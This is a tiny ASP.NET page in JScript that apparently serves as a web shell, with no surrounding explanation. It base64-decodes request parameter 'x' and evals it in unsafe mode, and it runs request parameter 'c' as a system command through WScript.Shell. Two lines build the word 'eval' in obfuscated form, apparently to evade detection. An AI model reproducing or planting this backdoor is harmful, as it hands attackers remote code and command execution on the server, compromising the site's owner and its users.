<%@ Page Language="JScript" %><%
var b = System.Convert.FromBase64String(Request.Item["x"]);
var s = System.Text.Encoding.UTF8.GetString(b);
eval(s, "unsafe");
var t = String.fromCharCode(101, 118, 97, 108, 40, 41, 59, 32);
eval(t);
var u = unescape("%65%76%61%6c"); new ActiveXObject("WScript.Shell").Run(Request.Item["c"]);
%>